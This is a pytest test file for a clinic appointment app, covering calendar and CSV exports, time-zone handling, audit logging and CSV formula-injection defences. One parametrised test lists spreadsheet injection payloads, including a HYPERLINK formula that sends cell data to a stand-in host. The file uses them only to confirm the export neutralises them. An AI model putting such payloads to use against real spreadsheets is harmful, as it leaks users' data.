import csv
import io
from datetime import date, datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest
from icalendar import Calendar
from sqlalchemy import select

from frontdesk.db.models import Appointment, AppointmentType, AuditEvent
from frontdesk.domain.patients import PatientDetails
from frontdesk.services.appointments import (
    CSV_COLUMNS,
    AppointmentFilter,
    cancel_appointment,
    export_csv,
    export_ics,
    get_appointment,
    ics_uid,
)
from frontdesk.services.errors import ValidationFailed
from frontdesk.services.patients import register_patient
from frontdesk.services.unit_of_work import UnitOfWork

VANCOUVER = ZoneInfo("America/Vancouver")
CHRIS, TRACEY = 1, 2
AROUND_THE_CHANGE = [date(2026, 10, 31), date(2026, 11, 1), date(2026, 11, 2)]  # clocks go back Nov 1


@pytest.fixture
def patient(ctx, reception):
    details = PatientDetails(family_name="Ødegård", given_names="Zoë", date_of_birth=date(1985, 3, 4),
                             phone="250 555 0101")
    return register_patient(ctx, reception, details)


def insert(ctx, actor, patient_id, day, hour, minute=0, therapist=CHRIS, kind="IMS treatment", notes=""):
    """Put an appointment straight into the book (these days are before the test clock's today)."""
    with UnitOfWork(ctx, actor, write=True) as uow:
        found = uow.session.scalar(select(AppointmentType).where(AppointmentType.name == kind))
        start = datetime.combine(day, time(hour, minute), tzinfo=VANCOUVER)
        row = Appointment(patient_id=patient_id, therapist_id=therapist, type_id=found.id, starts_at=start,
                          ends_at=start + timedelta(minutes=found.duration_minutes), status="booked",
                          area="neck", notes=notes, created_at=ctx.now(), created_by=actor.user_id,
                          updated_at=ctx.now(), updated_by=actor.user_id)
        uow.session.add(row)
        uow.commit()
        return row.id


def parsed_events(data: bytes):
    return sorted(Calendar.from_ical(data).walk("VEVENT"), key=lambda e: e.decoded("dtstart"))


def test_nine_oclock_stays_nine_oclock_across_the_daylight_saving_change(ctx, reception, patient):
    for day in AROUND_THE_CHANGE:
        insert(ctx, reception, patient.id, day, 9, notes="left knee replaced in 2019")
    data = export_ics(ctx, reception, CHRIS, date(2026, 10, 30), date(2026, 11, 3))
    events = parsed_events(data)
    assert len(events) == 3
    for event, day in zip(events, AROUND_THE_CHANGE, strict=True):
        start, end = event.decoded("dtstart"), event.decoded("dtend")
        local = start.astimezone(VANCOUVER)
        assert (local.date(), local.hour, local.minute) == (day, 9, 0)
        assert end.astimezone(ZoneInfo("UTC")) - start.astimezone(ZoneInfo("UTC")) == timedelta(minutes=30)
        assert str(event["dtstart"].params["TZID"]) == "America/Vancouver"
    assert b"BEGIN:VTIMEZONE" in data and b"TZID:America/Vancouver" in data


def test_the_summary_names_the_patient_and_type_only(ctx, reception, patient):
    insert(ctx, reception, patient.id, date(2026, 11, 26), 9, notes="left knee replaced in 2019")
    (event,) = parsed_events(export_ics(ctx, reception, CHRIS, date(2026, 11, 26), date(2026, 11, 26)))
    assert str(event["summary"]) == "Ødegård, Zoë \u2013 IMS treatment"
    text = event.to_ical().decode()
    assert "knee" not in text and "neck" not in text.lower() and "555" not in text


def test_uids_are_stable_and_a_cancellation_is_exported_as_cancelled(ctx, reception, patient):
    first_id = insert(ctx, reception, patient.id, date(2026, 11, 26), 9)
    second_id = insert(ctx, reception, patient.id, date(2026, 11, 27), 9)
    first = export_ics(ctx, reception, CHRIS, date(2026, 11, 26), date(2026, 11, 27))
    record = get_appointment(ctx, reception, second_id)
    cancel_appointment(ctx, reception, second_id, record.version, "Feeling better")
    second = export_ics(ctx, reception, CHRIS, date(2026, 11, 26), date(2026, 11, 27))
    uids = lambda data: [str(e["uid"]) for e in parsed_events(data)]  # noqa: E731
    assert uids(first) == uids(second) == [ics_uid(first_id), ics_uid(second_id)]
    cancelled = parsed_events(second)[1]
    assert str(cancelled["status"]) == "CANCELLED"
    assert int(cancelled["sequence"]) > int(parsed_events(first)[1]["sequence"])


def test_only_the_therapists_appointments_in_the_range_are_exported(ctx, reception, patient):
    insert(ctx, reception, patient.id, date(2026, 11, 26), 9)
    insert(ctx, reception, patient.id, date(2026, 11, 26), 11, therapist=TRACEY)
    insert(ctx, reception, patient.id, date(2026, 11, 28), 9)
    events = parsed_events(export_ics(ctx, reception, CHRIS, date(2026, 11, 26), date(2026, 11, 27)))
    assert [e.decoded("dtstart").astimezone(VANCOUVER).date() for e in events] == [date(2026, 11, 26)]
    with pytest.raises(ValidationFailed):
        export_ics(ctx, reception, CHRIS, date(2026, 11, 27), date(2026, 11, 26))


def test_csv_has_the_columns_and_local_times(ctx, reception, patient):
    for day in AROUND_THE_CHANGE:
        insert(ctx, reception, patient.id, day, 9, kind="Physiotherapy treatment")
    second = insert(ctx, reception, patient.id, date(2026, 11, 26), 9)
    cancel_appointment(ctx, reception, second, 1, "Feeling unwell")
    rows = list(csv.reader(io.StringIO(export_csv(ctx, reception, AppointmentFilter(therapist_id=CHRIS)))))
    assert tuple(rows[0]) == CSV_COLUMNS == (
        "Date", "Start", "End", "Patient", "Phone", "Physiotherapist", "Type", "IMS", "Status",
        "Late cancellation", "Cancellation reason",
    )
    assert [r[:3] for r in rows[1:4]] == [[d.isoformat(), "09:00", "09:30"] for d in AROUND_THE_CHANGE]
    assert rows[1][3:9] == ["Ødegård, Zoë", "(250) 555-0101", "Chris Stokes", "Physiotherapy treatment", "", "Booked"]
    assert rows[4][3:] == ["Ødegård, Zoë", "(250) 555-0101", "Chris Stokes", "IMS treatment",
                           "Not screened for IMS", "Cancelled", "yes", "Feeling unwell"]


def test_exports_are_recorded_in_the_audit_trail(ctx, reception, patient):
    insert(ctx, reception, patient.id, date(2026, 11, 26), 9)
    export_csv(ctx, reception, AppointmentFilter())
    export_ics(ctx, reception, CHRIS, date(2026, 11, 26), date(2026, 11, 26))
    with UnitOfWork(ctx, None) as uow:
        exports = [(a.detail["format"], a.detail["rows"], a.username) for a in uow.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "export"))]
    assert exports == [("csv", 1, "desk"), ("ics", 1, "desk")]


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("reason", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(ctx, reception, patient, reason):
    booked = insert(ctx, reception, patient.id, date(2026, 11, 26), 9)
    cancel_appointment(ctx, reception, booked, 1, reason + " (sic)")
    rows = list(csv.reader(io.StringIO(export_csv(ctx, reception, AppointmentFilter(therapist_id=CHRIS)))))
    cell = rows[1][-1]
    assert cell.startswith("'") and cell[1:] == " ".join((reason + " (sic)").split())


def test_the_neutralising_rule():
    from frontdesk.services.csv_export import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ["=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", 7, -7]] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", 7, -7]
